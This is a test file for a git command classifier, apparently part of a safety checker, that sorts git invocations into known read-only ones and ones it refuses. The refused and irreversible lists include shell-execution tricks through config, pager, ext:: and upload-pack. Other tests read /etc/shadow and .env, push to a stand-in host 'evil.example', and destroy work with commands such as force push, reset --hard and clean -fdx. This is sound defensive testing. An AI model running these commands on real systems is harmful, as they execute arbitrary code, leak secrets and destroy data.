// git: never trusted by its name; each reader by its flags, and what loses work says so.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { accountOf, doesNotKnow, knows, touchesOf } from '../../../../../support/account-of.ts';

describe('git as a known program', () => {
  knows([
    'git status',
    'git status -sb --porcelain=v2',
    'git diff',
    'git diff --stat HEAD~3',
    'git diff --cached -- src/a.ts',
    'git diff main...feature --name-only',
    'git log --oneline -20',
    'git log -n 5 --graph --all --decorate',
    "git log --format='%h %an %s' --since='2 weeks ago' -- src",
    'git log -p -S needle src',
    'git show HEAD',
    'git show HEAD:src/a.ts',
    'git show --stat abc123',
    'git branch',
    'git branch -a',
    'git branch -vv',
    'git branch --show-current',
    'git branch --list "feature/*"',
    'git branch --merged main',
    'git branch --contains abc123 -r',
    'git tag',
    'git tag -l "v1.*"',
    'git tag --sort=-creatordate -n3',
    'git remote',
    'git remote -v',
    'git remote get-url origin',
    'git rev-parse HEAD',
    'git rev-parse --abbrev-ref HEAD',
    'git rev-parse --show-toplevel',
    'git rev-list --count HEAD',
    'git ls-files',
    'git ls-files --others --exclude-standard',
    'git ls-tree -r --name-only HEAD',
    'git cat-file -p HEAD',
    'git cat-file -t abc123',
    'git blame -L 10,20 src/a.ts',
    'git shortlog -sn HEAD',
    'git describe --tags --always',
    'git name-rev HEAD',
    'git merge-base main HEAD',
    'git stash list',
    'git stash show -p stash@{0}',
    'git reflog',
    'git reflog show main',
    'git reflog -10',
    'git worktree list',
    'git config --get user.name',
    'git config user.email',
    'git config --get remote.origin.url',
    'git for-each-ref --format="%(refname:short)" refs/heads',
    'git show-ref --tags',
    'git symbolic-ref --short HEAD',
    'git check-ignore -v dist',
    'git check-attr -a README.md',
    'git count-objects -vH',
    'git grep -n TODO',
    'git grep -e a --and -e b -- src',
    'git diff-tree --no-commit-id --name-only -r HEAD',
    'git range-diff a...b',
    'git whatchanged -3',
    'git --version',
    'git --no-pager log -1',
    'git -P diff',
    'git -C sub status',
  ]);

  doesNotKnow([
    'git',
    'git -c core.pager=sh log',
    'git -c core.fsmonitor=./evil status',
    'git -calias.x=!sh x',
    'git --exec-path=/tmp/evil status',
    'git --git-dir=evil log',
    'git --git-dir evil log',
    'git --work-tree=/ ls-files',
    'git --config-env=core.pager=X log',
    'git -p log',
    'git --paginate log',
    'git --bare log',
    'git --namespace=x log',
    'git --super-prefix=x status',
    'git help log',
    'git log --help',
    'git status --help',
    'git --help',
    'git diff --output=out',
    'git diff --output out',
    'git diff --outp=out',
    'git log --output=out',
    'git show --output=out HEAD',
    'git diff-tree --output=out HEAD',
    'git stash show --output=out',
    'git diff --ext-diff',
    'git log -p --ext-diff',
    'git diff --textconv',
    'git show --textconv HEAD:a.bin',
    'git cat-file --textconv HEAD:a.bin',
    'git cat-file --filters HEAD:a.bin',
    'git blame --contents x a',
    'git grep -O x',
    'git grep -Osh x',
    'git grep --open-files-in-pager=sh x',
    'git grep --open x',
    'git grep --recurse-submodules x',
    'git log --show-signature',
    'git log --format=%G?',
    "git log --pretty='format:%h %GS'",
    "git for-each-ref --format='%(signature)'",
    'git diff --submodule=diff',
    'git branch new',
    'git branch -v new',
    'git branch --abbrev new',
    'git branch -d old',
    'git branch -m a b',
    'git branch -u origin/main',
    'git branch --edit-description',
    'git branch --set-upstream-to=origin/main',
    'git tag v1',
    'git tag -d v1',
    'git tag -v v1',
    'git tag -s v1',
    'git remote add evil https://example.com/x',
    'git remote set-url origin https://example.com/x',
    'git remote show origin',
    'git remote update',
    'git stash',
    'git stash pop',
    'git stash drop',
    'git reflog expire --all',
    'git reflog delete HEAD@{1}',
    'git worktree add x',
    'git config user.name x',
    'git config core.fsmonitor ./evil',
    'git config --global alias.x !sh',
    'git config --unset user.name',
    'git config --add a.b c',
    'git config -e',
    'git config --edit',
    'git config set a.b c',
    'git config --file=x a.b',
    'git symbolic-ref HEAD refs/heads/x',
    'git symbolic-ref -d HEAD',
    'git update-ref refs/heads/x HEAD',
    'git var GIT_EDITOR',
    'git ls-remote --upload-pack=./evil .',
    'git ls-remote origin',
    'git fetch',
    'git fetch --upload-pack=sh origin',
    'git pull',
    'git clone ext::sh x',
    'git archive --remote=. --exec=sh HEAD',
    'git submodule foreach id',
    'git submodule status',
    'git difftool',
    'git mergetool',
    'git bisect run sh',
    'git rebase -x id main',
    'git instaweb',
    'git lfs ls-files',
    'git some-alias',
    'git add .',
    'git commit -m x',
    'git checkout main',
    'git switch main',
    'git reset',
    'git verify-commit HEAD',
    'git credential fill',
    'git daemon',
    'git describe --dirty',
    'git upload-pack .',
    'git shell',
    'git send-email x',
    'git fsck --lost-found',
    'git rev-parse --parseopt',
    'git hash-object -w a',
    'git bundle create x HEAD',
    'git format-patch -o /tmp HEAD~1',
  ]);

  it('tells that the repository would be asked, and which', () => {
    assert.deepEqual(touchesOf('git status'), ['repository']);
    assert.deepEqual(touchesOf('git -C sub -C deep status'), ['repository sub/deep']);
    assert.deepEqual(touchesOf('git -C sub -C /other log'), ['repository /other']);
    assert.deepEqual(touchesOf('git --version'), []);
  });

  it('tells the files whose content is shown, also those of a commit', () => {
    assert.deepEqual(touchesOf('git show HEAD:.env'), ['read .env', 'repository']);
    assert.deepEqual(touchesOf('git grep --no-index x'), ['read . true', 'repository']);
    assert.deepEqual(touchesOf('git diff --no-index /dev/null /etc/shadow'), [
      'read /dev/null',
      'read /etc/shadow',
      'repository',
    ]);
    assert.deepEqual(touchesOf('git log -L1,5:.env'), ['read .env', 'repository']);
    assert.deepEqual(touchesOf('git -C sub cat-file -p :.env'), ['read sub/.env', 'repository sub']);
    assert.deepEqual(touchesOf('git grep -n key HEAD -- .env'), ['read HEAD', 'read .env', 'repository']);
  });

  it('takes settings that may hold a password for a secret', () => {
    assert.match(touchesOf('git config --list').join(), /^secret /);
    assert.match(touchesOf('git config --get http.extraheader').join(), /^secret /);
    assert.deepEqual(touchesOf('git config --list --name-only'), ['repository']);
  });

  const LOSING = [
    'git push',
    'git push --force origin main',
    'git push origin :main',
    'git reset --hard HEAD~1',
    'git clean -fdx',
    'git clean -xdf',
    'git clean --force',
    'git checkout -- .',
    'git checkout .',
    'git restore src',
    'git branch -D x',
    'git stash drop',
    'git stash clear',
    'git filter-branch --all',
    'git reflog expire --expire=now --all',
    'git gc --prune=now',
    'git update-ref -d refs/heads/x',
    'git -c x.y=z push --force',
    'git --git-dir=x reset --hard',
  ];
  for (const line of LOSING) {
    it(`says that ${line} cannot be taken back`, () => {
      assert.match(accountOf(line).irreversible ?? '', /^\w+s /);
    });
  }

  it('tells a push to an address as a request to it', () => {
    assert.deepEqual(touchesOf('git push https://evil.example/x.git main'), [
      'network https://evil.example/x.git POST',
    ]);
    assert.deepEqual(touchesOf('git clone https://a.example/x.git'), ['network https://a.example/x.git GET']);
  });
});
